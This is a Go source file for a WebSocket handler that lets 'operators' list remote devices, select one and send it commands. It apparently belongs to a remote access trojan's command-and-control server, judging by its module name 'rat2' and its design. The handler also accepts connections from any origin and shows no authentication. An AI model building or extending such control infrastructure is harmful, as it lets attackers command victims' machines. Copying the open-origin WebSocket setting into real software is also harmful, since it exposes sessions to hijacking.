package handlers

import (
	"encoding/json"
	"errors"
	"net/http"

	"github.com/MRSt3Ss/rat2/internal/hub"
	"github.com/MRSt3Ss/rat2/internal/models"
	"github.com/MRSt3Ss/rat2/internal/service"

	"github.com/gin-gonic/gin"
	"github.com/gorilla/websocket"
	"github.com/sirupsen/logrus"
)

// LiveHandler upgrades operator connections to WebSocket sessions and
// bridges them to the broadcast hub.
type LiveHandler struct {
	service  service.Service
	log      *logrus.Logger
	upgrader websocket.Upgrader
}

// clientMessage is one operator-to-server message on a live session.
type clientMessage struct {
	Event string          `json:"event"`
	Data  json.RawMessage `json:"data"`
}

// NewLiveHandler creates a new LiveHandler instance
func NewLiveHandler(svc service.Service, log *logrus.Logger) *LiveHandler {
	return &LiveHandler{
		service: svc,
		log:     log,
		upgrader: websocket.Upgrader{
			ReadBufferSize:  1024,
			WriteBufferSize: 1024,
			CheckOrigin: func(_ *http.Request) bool {
				return true
			},
		},
	}
}

// Serve handles one live operator session: subscribe on connect, relay
// hub notifications out, process operator messages in, unsubscribe on
// disconnect.
func (h *LiveHandler) Serve(c *gin.Context) {
	conn, err := h.upgrader.Upgrade(c.Writer, c.Request, nil)
	if err != nil {
		h.log.WithError(err).WithField("remote_addr", c.Request.RemoteAddr).
			Error("Failed to upgrade to WebSocket")
		return
	}
	defer conn.Close()

	session := h.service.Subscribe()
	defer h.service.Unsubscribe(session)

	h.log.WithFields(logrus.Fields{
		"session_id":  session.ID,
		"remote_addr": c.Request.RemoteAddr,
	}).Info("Operator connected")

	// Writer: drain hub notifications until the session channel closes.
	writeDone := make(chan struct{})
	go func() {
		defer close(writeDone)
		for notification := range session.C() {
			if err := conn.WriteJSON(notification); err != nil {
				h.log.WithError(err).WithField("session_id", session.ID).
					Debug("Failed to write to session")
				return
			}
		}
	}()

	h.service.NotifySession(session, "connected", gin.H{"status": "ok"})

	// Reader: process operator messages until the connection drops.
	for {
		var msg clientMessage
		if err := conn.ReadJSON(&msg); err != nil {
			if websocket.IsUnexpectedCloseError(err, websocket.CloseGoingAway, websocket.CloseNormalClosure) {
				h.log.WithError(err).WithField("session_id", session.ID).
					Debug("Session read error")
			}
			break
		}
		h.handleMessage(c, session, msg)
	}

	h.service.Unsubscribe(session)
	<-writeDone

	h.log.WithField("session_id", session.ID).Info("Operator disconnected")
}

func (h *LiveHandler) handleMessage(c *gin.Context, session *hub.Session, msg clientMessage) {
	switch msg.Event {
	case "request_devices":
		h.service.NotifySession(session, "devices_list", h.service.ListDevices(c.Request.Context()))

	case "select_device":
		var req struct {
			DeviceID string `json:"device_id"`
		}
		if err := json.Unmarshal(msg.Data, &req); err != nil || req.DeviceID == "" {
			h.service.NotifySession(session, "command_error", gin.H{"message": "Invalid device selection"})
			return
		}
		if _, err := h.service.SelectDevice(c.Request.Context(), req.DeviceID); err != nil {
			h.service.NotifySession(session, "command_error", gin.H{"message": "Device not found"})
		}

	case "web_command":
		var req models.CommandRequest
		if err := json.Unmarshal(msg.Data, &req); err != nil {
			h.service.NotifySession(session, "command_error", gin.H{"message": "Invalid command format"})
			return
		}
		commandString, err := h.service.SubmitCommand(c.Request.Context(), req.Command, req.Params)
		if err != nil {
			message := "Failed to submit command"
			if errors.Is(err, models.ErrNoDeviceSelected) {
				message = "No device selected"
			}
			h.service.NotifySession(session, "command_error", gin.H{"message": message})
			return
		}
		h.service.NotifySession(session, "command_sent", gin.H{"command": commandString})

	default:
		h.log.WithFields(logrus.Fields{
			"session_id": session.ID,
			"event":      msg.Event,
		}).Debug("Unknown session message")
	}
}
